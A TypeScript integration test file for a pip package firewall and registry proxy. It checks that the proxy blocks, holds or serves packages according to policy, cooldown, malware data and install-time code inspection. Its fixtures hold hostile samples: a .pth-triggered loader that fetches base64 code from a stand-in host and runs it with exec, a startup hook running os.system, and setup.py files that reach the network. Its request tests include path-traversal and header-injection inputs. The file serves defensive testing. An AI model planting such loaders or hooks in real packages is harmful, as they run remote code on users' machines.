import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { type AddressInfo, connect } from 'node:net';
import { devNull, tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { setTimeout as sleep } from 'node:timers/promises';
import { type ServerType, serve } from '@hono/node-server';
import { execa } from 'execa';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { openFirewall } from '../../src/firewall/firewall.ts';
import { type Policy, recommendedPolicy } from '../../src/firewall/policy.ts';
import { firewallServer } from '../../src/firewall/serve/firewall-server.ts';
import type { Decide } from '../../src/firewall/serve/judge-page.ts';
import { openMetrics } from '../../src/firewall/serve/metrics.ts';
import { registryProxy } from '../../src/firewall/serve/registry-proxy.ts';
import type { LogEntry } from '../../src/firewall/serve/types.ts';
import { openSources } from '../../src/firewall/sources/sources.ts';
import type { IndexFile, PageResult, UpstreamIndex } from '../../src/index/types.ts';
import { openUpstreamIndex } from '../../src/index/upstream-index.ts';
import { openIndexInspector } from '../../src/workflow/inspector.ts';
import { until } from '../helpers/awspip.ts';
import { directHttp } from '../helpers/direct-http.ts';
import { sdist, wheel } from '../helpers/distributions.ts';
import { type PackageIndex, startPackageIndex } from '../helpers/package-index.ts';

let packageIndex: PackageIndex;
let folder: string;
type ServedIndex = ReturnType<typeof openUpstreamIndex>;
let upstream: ServedIndex;
let opened: Awaited<ReturnType<typeof start>>;

const fetchingSetup = 'import urllib.request\nurllib.request.urlopen("http://192.0.2.1/")\n';
const today = new Date().toISOString();
const beforeCooldown = '2025-06-01T12:00:00Z';
const policy: Policy = {
  ...recommendedPolicy,
  allow: [{ name: 'zzqx-allowed', reason: 'reviewed', owner: 'security' }],
  block: [{ name: 'zzqx-blocked', reason: 'seen stealing keys', owner: 'security' }],
};

beforeAll(async () => {
  [packageIndex, folder] = await Promise.all([startPackageIndex(), mkdtemp(join(tmpdir(), 'proxy-'))]);
  const publish = (
    name: string,
    version: string,
    uploadTime = beforeCooldown,
    more: Parameters<PackageIndex['publish']>[3] = {},
  ) =>
    packageIndex.publish(
      name,
      version,
      wheel({ name, version, requires: name === 'zzqx-root' ? ['zzqx-leaf>=1'] : [] }),
      {
        uploadTime,
        ...more,
      },
    );
  publish('zzqx-root', '1.0');
  publish('zzqx-leaf', '1.0');
  publish('zzqx-leaf', '1.1');
  publish('zzqx-growing', '1.0');
  publish('zzqx-growing', '2.0', today);
  publish('zzqx-turned', '1.0');
  publish('zzqx-turned', '1.1');
  const stealing =
    'import base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen("http://192.0.2.1/").read()))\n';
  const turned = wheel({
    name: 'zzqx-turned',
    version: '2.0',
    files: { 'zzqx.pth': 'import zzqx_run\n', 'zzqx_run.py': stealing },
  });
  packageIndex.publish('zzqx-turned', '2.0', turned, { uploadTime: beforeCooldown });
  publish('zzqx-mixed', '1.0');
  const mixed = await sdist({ name: 'zzqx-mixed', version: '1.0', files: { 'setup.py': fetchingSetup } });
  packageIndex.publish('zzqx-mixed', '1.0', mixed, { uploadTime: beforeCooldown });
  publish('zzqx-allowed', '1.0', today);
  publish('zzqx-blocked', '1.0');
  publish('zzqx-malware', '1.0', beforeCooldown, { malware: ['1.0'] });
  publish('zzqx-obscure', '1.0', '2020-01-01T00:00:00Z', {
    downloads: 3,
    stars: 0,
    olderVersions: 0,
    repository: false,
  });
  const fetching = await sdist({ name: 'zzqx-fetching', version: '1.0', files: { 'setup.py': fetchingSetup } });
  packageIndex.publish('zzqx-fetching', '1.0', fetching, { uploadTime: beforeCooldown });
  const startup = wheel({
    name: 'zzqx-startup',
    version: '1.0',
    files: { 'zzqx.pth': 'import os; os.system("id")\n' },
  });
  packageIndex.publish('zzqx-startup', '1.0', startup, { uploadTime: beforeCooldown });
  upstream = openUpstreamIndex(configuration(`${packageIndex.origin}/simple/`), { cacheSeconds: 60 });
  opened = await start(upstream);
});
afterAll(async () => {
  await opened.close();
  await upstream.close();
  await packageIndex.close();
  await rm(folder, { recursive: true, force: true });
});
beforeEach(() => void opened.logged.splice(0));

const configuration = (indexUrl: string) => ({
  indexUrls: [indexUrl],
  findLinks: [],
  trustedHosts: [],
  timeoutSeconds: 5,
});

/** Starts a server over an index. `inspected` is the index whose files the firewall inspects. */
async function start(index: ServedIndex, inspected: UpstreamIndex = index, decide: Decide = async (all) => all) {
  const logged: LogEntry[] = [];
  const base = packageIndex.environment;
  const addresses = {
    pypi: base.AWSPIP_PYPI_URL ?? '',
    pypistats: base.AWSPIP_PYPISTATS_URL ?? '',
    github: base.AWSPIP_GITHUB_URL ?? '',
    depsDev: base.AWSPIP_DEPS_DEV_URL ?? '',
    osv: base.AWSPIP_OSV_URL ?? '',
  };
  const sources = openSources({
    http: directHttp,
    addresses,
    now: Date.now,
    userAgent: 'awspip/test',
    sleep: async () => {},
  });
  const firewall = openFirewall({ policy, sources, now: Date.now, inspect: openIndexInspector(inspected, Date.now) });
  const metrics = openMetrics({ startedAt: 1_000, memory: () => 42 });
  const onWithheld = (files: number) => metrics.count('awspip_withheld_files_total', {}, files);
  const refused: string[] = [];
  const aborted: string[] = [];
  const onTransferError = (filename: string) => void aborted.push(filename);
  const proxy = registryProxy({
    onTransferError,
    firewall,
    decide,
    upstream: index,
    isCompleteIndex: () => true,
    sleep,
    onWithheld,
    onRefused: ({ name, version }) => void refused.push(`${name} ${version}`),
  });
  const log = (entry: LogEntry) => void logged.push(entry);
  const app = firewallServer({ firewall, proxy, metrics, log, clock: () => performance.now(), version: '1.2.3' });
  const server = await new Promise<ServerType>((resolve) => {
    const listening = serve({ fetch: app.fetch, hostname: '127.0.0.1', port: 0 }, () => resolve(listening));
  });
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { origin, logged, aborted, refused, close: () => new Promise((resolve) => server.close(resolve)) };
}

async function pip(...argv: readonly string[]) {
  const inherited = Object.entries(process.env).filter(([name]) => !/^(pip_|(https?|all|no)_proxy$)/i.test(name));
  return execa('python3', ['-m', 'pip', ...argv], {
    cwd: folder,
    reject: false,
    stdin: 'ignore',
    extendEnv: false,
    env: {
      ...Object.fromEntries(inherited),
      PIP_CONFIG_FILE: devNull,
      PIP_NO_CACHE_DIR: '1',
      PIP_DISABLE_PIP_VERSION_CHECK: '1',
      PIP_NO_INPUT: '1',
      PIP_INDEX_URL: `${opened.origin}/simple/`,
    },
  });
}

const filesOf = async (name: string, userAgent = 'node'): Promise<{ filename: string; url: string }[]> => {
  const response = await fetch(`${opened.origin}/simple/${name}/`, {
    headers: { accept: 'application/vnd.pypi.simple.v1+json', 'user-agent': userAgent },
  });
  expect(response.status).toBe(200);
  return ((await response.json()) as { files: { filename: string; url: string }[] }).files;
};
const fileUrl = async (name: string) =>
  new URL((await filesOf(name, 'pip/25.3'))[0]?.url ?? '', `${opened.origin}/simple/${name}/`).href;

describe('pip through the registry proxy', () => {
  test('installs an allowed package with its dependencies', async () => {
    const run = await pip('install', '--target', 'allowed', 'zzqx-root');
    expect(run.exitCode, run.stderr).toBe(0);
    expect(await readdir(join(folder, 'allowed'))).toEqual(expect.arrayContaining(['zzqx_root', 'zzqx_leaf']));
  });

  test.each([
    ['zzqx-blocked', /403 Client Error: awspip blocked zzqx-blocked 1\.0: Block list: seen stealing keys/],
    ['zzqx-malware', /403 Client Error: awspip blocked zzqx-malware 1\.0: Known malware: MAL-2026-1/],
    [
      'zzqx-obscure',
      /awspip blocked zzqx-obscure 1\.0: Downloads < 300 \(\+20 points\), GitHub stars < 30 \(\+10 points\)/,
    ],
    [
      'zzqx-fetching',
      /awspip put zzqx-fetching 1\.0 on hold: Install-time code: .*setup\.py:2 uses the network \(`urllib\.request/,
    ],
    [
      'zzqx-startup',
      /awspip put zzqx-startup 1\.0 on hold: Install-time code: .*zzqx\.pth:1 runs whenever Python starts and uses/,
    ],
  ])('fails for %s, and its last line contains the reasons', async (name, message) => {
    const run = await pip('install', '--target', 'refused', name);
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toMatch(message);
  });

  test('installs the release before one within the cooldown', async () => {
    const run = await pip('install', '--target', 'older', 'zzqx-growing');
    expect(run.exitCode, run.stderr).toBe(0);
    expect(await readdir(join(folder, 'older'))).toContain('zzqx_growing-1.0.dist-info');
  });
});

describe('what a page leaves out', () => {
  test('pip takes the next allowed release if the newest one is refused for its code', async () => {
    const run = await pip('install', '--target', 'turned', 'zzqx-turned');
    expect(run.exitCode, run.stderr).toBe(0);
    expect(await readdir(join(folder, 'turned'))).toContain('zzqx_turned-1.1.dist-info');
  });

  test('is at /withheld with the reasons, and in the log', async () => {
    const response = await fetch(`${opened.origin}/withheld/zzqx_turned`);
    expect(await response.json()).toMatchObject({
      package_name: 'zzqx-turned',
      withheld: [
        {
          version: '2.0',
          outcome: 'HELD',
          files: ['zzqx_turned-2.0-py3-none-any.whl'],
          reasons: [expect.stringContaining('zzqx_run.py:2')],
        },
      ],
    });
    await filesOf('zzqx-turned', 'devpi-server/6');
    expect(opened.refused).toContain('zzqx-turned 2.0');
    await filesOf('zzqx-growing');
    expect(opened.refused).not.toContain('zzqx-growing 2.0');
    await filesOf('zzqx-turned', 'devpi-server/6');
    expect(opened.logged.at(-1)).toMatchObject({
      withheld: expect.stringMatching(/^1 file: awspip put zzqx-turned 2\.0 on hold: /),
      client: '127.0.0.1',
      userAgent: 'devpi-server/6',
    });
  });

  test('a registry in front sees no file of a project without an allowed release, and pip the newest with its reasons', async () => {
    expect(await filesOf('zzqx-blocked', 'devpi-server/6')).toEqual([]);
    expect(await filesOf('zzqx-blocked', 'pip/25.3')).toHaveLength(1);
  });

  test('an sdist that was refused is left out of the next page, and the wheel next to it is served', async () => {
    const [wheelFile, sdistFile] = await filesOf('zzqx-mixed');
    const urlOf = (file: { url: string } | undefined) =>
      new URL(file?.url ?? '', `${opened.origin}/simple/zzqx-mixed/`);
    expect((await fetch(urlOf(wheelFile))).status).toBe(200);
    expect((await fetch(urlOf(sdistFile))).status).toBe(403);
    expect((await filesOf('zzqx-mixed')).map(({ filename }) => filename)).toEqual([wheelFile?.filename]);
    expect(opened.refused).toContain('zzqx-mixed 1.0');
  });

  test('a person’s decision changes the next page and the next file', async () => {
    let outcome: 'ALLOWED' | 'BLOCKED' = 'BLOCKED';
    const other = await start(upstream, upstream, async (all) =>
      all.map((assessment) => ({ ...assessment, verdict: { ...assessment.verdict, outcome } })),
    );
    const files = async () => {
      const page = await fetch(`${other.origin}/simple/zzqx-root/`, {
        headers: { accept: 'application/vnd.pypi.simple.v1+json' },
      });
      return ((await page.json()) as { files: { url: string }[] }).files;
    };
    expect(await files()).toEqual([]);
    outcome = 'ALLOWED';
    const [file] = await files();
    const url = new URL(file?.url ?? '', `${other.origin}/simple/zzqx-root/`);
    expect((await fetch(url)).status).toBe(200);
    outcome = 'BLOCKED';
    expect((await fetch(url)).status).toBe(403);
    await other.close();
  });

  test('the list of projects is passed through as JSON and HTML', async () => {
    const listOf = async (accept: string) => (await fetch(`${opened.origin}/simple/`, { headers: { accept } })).text();
    expect(JSON.parse(await listOf('application/vnd.pypi.simple.v1+json'))).toMatchObject({
      meta: { 'api-version': '1.0' },
      projects: expect.arrayContaining([{ name: 'zzqx-root' }]),
    });
    expect(await listOf('text/html')).toContain('<a href="zzqx-root/">zzqx-root</a>');
  });
});

describe('pages', () => {
  test('are JSON or HTML by content negotiation, and 406 for other types', async () => {
    const html = await fetch(`${opened.origin}/simple/zzqx-leaf/`, { headers: { accept: 'text/html' } });
    expect(html.headers.get('content-type')).toContain('text/html');
    expect(await html.text()).toMatch(
      /href="\.\.\/\.\.\/files\/zzqx-leaf\/[0-9a-f]{16}\/zzqx_leaf-1\.0-py3-none-any\.whl#sha256=/,
    );
    expect(await filesOf('zzqx-leaf')).toHaveLength(2);
    expect((await fetch(`${opened.origin}/simple/zzqx-leaf/`, { headers: { accept: 'image/png' } })).status).toBe(406);
  });

  test('redirect other spellings to the normalised name', async () => {
    const response = await fetch(`${opened.origin}/simple/ZZQX_Leaf`, { headers: { accept: 'text/html' } });
    expect(response.status).toBe(200);
    expect(response.url).toBe(`${opened.origin}/simple/zzqx-leaf/`);
  });

  test('hide releases within the cooldown, but not those of the allow list', async () => {
    expect((await filesOf('zzqx-growing')).map(({ filename }) => filename)).toEqual([
      'zzqx_growing-1.0-py3-none-any.whl',
    ]);
    expect(await filesOf('zzqx-allowed')).toHaveLength(1);
  });

  test('are 404 for a missing project, and 504 if the index does not answer', async () => {
    expect((await fetch(`${opened.origin}/simple/zzqx-nothing/`)).status).toBe(404);
    const unreachable = openUpstreamIndex(configuration('http://127.0.0.1:1/simple/'), { cacheSeconds: 0 });
    const other = await start(unreachable);
    const response = await fetch(`${other.origin}/simple/zzqx-leaf/`);
    expect(response.status).toBe(504);
    expect(await response.json()).toEqual({ error: expect.stringContaining('does not answer') });
    await Promise.all([other.close(), unreachable.close()]);
  });
});

describe('files', () => {
  test('of an allowed release are served unchanged, and HEAD returns their size', async () => {
    const url = await fileUrl('zzqx-leaf');
    const response = await fetch(url);
    const bytes = await response.arrayBuffer();
    expect(response.headers.get('content-length')).toBe(String(bytes.byteLength));
    const head = await fetch(url, { method: 'HEAD' });
    expect(head.headers.get('content-length')).toBe(String(bytes.byteLength));
  });

  test('of a blocked release are 403 with the reasons in the body, also for HEAD', async () => {
    const url = await fileUrl('zzqx-obscure');
    const response = await fetch(url);
    expect(response.status).toBe(403);
    expect(response.statusText).toContain('awspip blocked zzqx-obscure 1.0');
    expect(await response.json()).toMatchObject({
      outcome: 'BLOCKED',
      package_name: 'zzqx-obscure',
      version: '1.0',
      score: 50,
      reasons: expect.arrayContaining(['Downloads < 300 (+20 points)']),
      policy_version: expect.stringMatching(/^recommended-/),
    });
    expect((await fetch(url, { method: 'HEAD' })).status).toBe(403);
  });

  test('of a release that the page hides are 403 as well', async () => {
    const { files } = (await (await fetch(`${packageIndex.origin}/simple/zzqx-growing/`)).json()) as {
      files: { filename: string; hashes: { sha256: string } }[];
    };
    const recent = files.find(({ filename }) => filename.includes('2.0'));
    const url = `${opened.origin}/files/zzqx-growing/${recent?.hashes.sha256.slice(0, 16)}/${recent?.filename}`;
    const response = await fetch(url);
    expect(response.status).toBe(403);
    expect(await response.json()).toMatchObject({ outcome: 'HELD', held_until: expect.stringMatching(/^20/) });
  });

  test.each([
    '/files/zzqx-leaf/0000000000000000/zzqx_leaf-1.0-py3-none-any.whl',
    '/files/zzqx-leaf/x/..%2f..%2fetc%2fpasswd',
    '/files/%00/x/y',
    '/files/a/b',
  ])('%s is 404', async (path) => expect((await fetch(`${opened.origin}${path}`)).status).toBe(404));

  test('are no longer read once the client disconnects, and the server goes on', async () => {
    const bytes = Buffer.alloc(8 * 1_048_576);
    const opened: Readable[] = [];
    const large: ServedIndex = {
      ...upstream,
      page: async (name) => withSize(await upstream.page(name), bytes.length),
      open: async () => {
        const stream = Readable.from(
          (function* () {
            for (let at = 0; at < bytes.length; at += 65_536) yield bytes.subarray(at, at + 65_536);
          })(),
        );
        opened.push(stream);
        return { stream, partial: false };
      },
    };
    const other = await start(large, upstream);
    const { pathname } = new URL(await fileUrl('zzqx-leaf'));
    for (const chunksToRead of [0, 1, 3]) {
      const controller = new AbortController();
      const response = await fetch(`${other.origin}${pathname}`, { signal: controller.signal });
      const reader = response.body?.getReader();
      for (let chunk = 0; chunk < chunksToRead; chunk += 1) await reader?.read();
      controller.abort();
    }
    await until('the streams to be closed', () => opened.length === 3 && opened.every(({ destroyed }) => destroyed));
    expect((await fetch(`${other.origin}/healthz`)).status).toBe(200);
    await other.close();
  });

  test('with a digest that differs from the index are aborted before their end', async () => {
    const inconsistent: ServedIndex = {
      ...upstream,
      page: async (name) => {
        const answer = await upstream.page(name);
        if (answer.kind !== 'found') return answer;
        const files = answer.page.files.map(
          (file): IndexFile => ({ ...file, size: undefined, hashes: { sha256: 'f'.repeat(64) } }),
        );
        return { ...answer, page: { ...answer.page, files } };
      },
    };
    const other = await start(inconsistent);
    const response = await fetch(`${other.origin}/files/zzqx-leaf/ffffffffffffffff/zzqx_leaf-1.0-py3-none-any.whl`);
    await expect(response.arrayBuffer()).rejects.toThrow();
    expect(other.aborted).toEqual(['zzqx_leaf-1.0-py3-none-any.whl']);
    await other.close();
  });
});

/** Returns a page with another size of each file. */
function withSize(answer: PageResult, size: number): PageResult {
  if (answer.kind !== 'found') return answer;
  return { ...answer, page: { ...answer.page, files: answer.page.files.map((file) => ({ ...file, size })) } };
}

describe('bad answers of the index', () => {
  test('a file that is larger or smaller than the index says is aborted, so that its rest is no other response', async () => {
    for (const size of [10, 1_000_000]) {
      const inconsistent: ServedIndex = {
        ...upstream,
        page: async (name) => withSize(await upstream.page(name), size),
      };
      const other = await start(inconsistent, upstream);
      const { port } = new URL(other.origin);
      const { pathname } = new URL(await fileUrl('zzqx-leaf'));
      const received = await new Promise<string>((resolve) => {
        let text = '';
        const socket = connect(Number(port), '127.0.0.1');
        socket.on('data', (chunk) => {
          text += chunk.toString('latin1');
        });
        socket.on('error', () => {});
        socket.on('close', () => resolve(text));
        socket.write(`GET ${pathname} HTTP/1.1\r\nhost: x\r\n\r\n`);
      });
      const [, body = ''] = received.split('\r\n\r\n');
      expect(body.length).toBeLessThan(size);
      expect(other.aborted).toEqual(['zzqx_leaf-1.0-py3-none-any.whl']);
      await other.close();
    }
  });

  test('the list of projects is read and written once for many parallel requests', async () => {
    const names = ['zzqx-root', 'Zzqx_Leaf'];
    let written = 0;
    const counted = new Proxy(names, {
      get(target, key) {
        if (key === 'map') written += 1;
        return Reflect.get(target, key) as unknown;
      },
    });
    const other = await start({ ...upstream, projects: async () => ({ kind: 'found', names: counted }) });
    const listOf = async (accept: string) => (await fetch(`${other.origin}/simple/`, { headers: { accept } })).text();
    const lists = await Promise.all(
      Array.from({ length: 10 }, (_, at) => listOf(at % 2 === 0 ? 'text/html' : 'application/vnd.pypi.simple.v1+json')),
    );
    expect(new Set(lists).size).toBe(2);
    expect(written).toBe(2);
    await other.close();
  });
});

describe('monitoring', () => {
  test('each request is one log entry with the verdict', async () => {
    await fetch(`${opened.origin}/package-check?package_name=zzqx-obscure&version=1.0`);
    expect(opened.logged).toEqual([
      expect.objectContaining({
        event: 'request',
        level: 'info',
        path: '/package-check',
        status: 200,
        package: 'zzqx-obscure',
        version: '1.0',
        outcome: 'BLOCKED',
        reasons: expect.stringContaining('Downloads < 300'),
      }),
    ]);
  });

  test('metrics are in the text format, with labels from a fixed set', async () => {
    await fetch(`${opened.origin}/simple/unknown"strange\\/`);
    const response = await fetch(`${opened.origin}/metrics`);
    expect(response.headers.get('content-type')).toBe('text/plain; version=0.0.4; charset=utf-8');
    const text = await response.text();
    for (const line of text.trimEnd().split('\n')) {
      expect(line).toMatch(/^(# (HELP|TYPE) \w+ .+|\w+(\{\w+="[^"]*"(,\w+="[^"]*")*\})? [\d.e+-]+)$/);
    }
    expect(text).toMatch(/awspip_verdicts_total\{outcome="BLOCKED"\} \d+/);
    expect(text).toMatch(/awspip_http_requests_total\{route="\/simple",status="404"\} \d+/);
    expect(text).toMatch(/awspip_http_request_duration_seconds_bucket\{route="\/package-check",le="\+Inf"\} \d+/);
    expect(text).toContain('process_resident_memory_bytes 42');
    expect(text).not.toContain('strange');
  });

  test('the paths of the OpenAPI document exist, and no others', async () => {
    const document = (await (await fetch(`${opened.origin}/openapi.json`)).json()) as {
      openapi: string;
      info: { version: string };
      paths: Record<string, unknown>;
    };
    expect(document).toMatchObject({ openapi: '3.1.0', info: { version: '1.2.3' } });
    const url = new URL(await fileUrl('zzqx-leaf')).pathname;
    for (const path of Object.keys(document.paths)) {
      const requestPath = path.replace('{name}', 'zzqx-leaf').replace('/files/zzqx-leaf/{digest}/{filename}', url);
      const query = path === '/package-check' ? '?package_name=zzqx-leaf' : '';
      expect((await fetch(`${opened.origin}${requestPath}${query}`)).status, path).toBe(200);
    }
    expect((await fetch(`${opened.origin}/unknown-path`)).status).toBe(404);
  });
});

describe('bad requests', () => {
  test('a project or a version that does not exist is 404, with the status in the body', async () => {
    const answerOf = async (query: string) => {
      const response = await fetch(`${opened.origin}/package-check?package_name=${query}`);
      return [response.status, await response.json()];
    };
    const body = { risk_level: null, score: null, reasons: {}, status: 'Not found', platform: 'pypi' };
    expect(await answerOf('zzqx-nothing')).toEqual([404, expect.objectContaining({ ...body, version: null })]);
    expect(await answerOf('zzqx-leaf&version=9.9')).toEqual([
      404,
      expect.objectContaining({ ...body, version: '9.9' }),
    ]);
    expect(await answerOf('zzqx-leaf&version=1.0.0')).toEqual([200, expect.objectContaining({ status: 'OK' })]);
  });

  test.each(['/package-check?package_name=a', '/healthz', '/metrics'])('another method for %s is 405', async (path) => {
    const response = await fetch(`${opened.origin}${path}`, { method: 'POST' });
    expect([response.status, response.headers.get('allow')]).toEqual([405, 'GET, HEAD']);
  });

  test.each([
    ['/package-check?package_name=%F0%9F%90%8D', 400],
    ['/package-check?package_name=r%D0%B5quests', 400],
    ['/package-check?package_name=a%0d%0aset-cookie:x', 400],
    ['/package-check?package_name=a&version=1.0%00', 400],
    ['/package-check?package_name=a&platform=npm', 400],
    ['/package-check?package_name=a&verison=1.0', 400],
    ['/package-check?package_name=a&package_name=b', 400],
    ['/package-check?package_name=%zz', 400],
    ['/simple/%2e%2e%2f/', 404],
    ['/simple/%zz/', 404],
    ['/simple/r%D0%B5quests/', 404],
  ])('%s is %i', async (path, status) => {
    const response = await fetch(`${opened.origin}${path}`);
    expect(response.status).toBe(status);
    expect(await response.json()).toEqual({ error: expect.any(String) });
  });

  test('a name of ten megabytes is rejected quickly, and the server keeps running', async () => {
    const { port } = new URL(opened.origin);
    const started = performance.now();
    const response = await new Promise<string>((resolve) => {
      let text = '';
      const socket = connect(Number(port), '127.0.0.1');
      socket.on('data', (chunk) => {
        text += chunk;
      });
      socket.on('error', () => {});
      socket.on('close', () => resolve(text));
      socket.write(`GET /package-check?package_name=${'a'.repeat(10_000_000)} HTTP/1.1\r\nhost: x\r\n\r\n`);
    });
    expect(response).toMatch(/^HTTP\/1\.1 4\d\d/);
    expect(performance.now() - started).toBeLessThan(5_000);
    expect((await fetch(`${opened.origin}/healthz`)).status).toBe(200);
  });
});
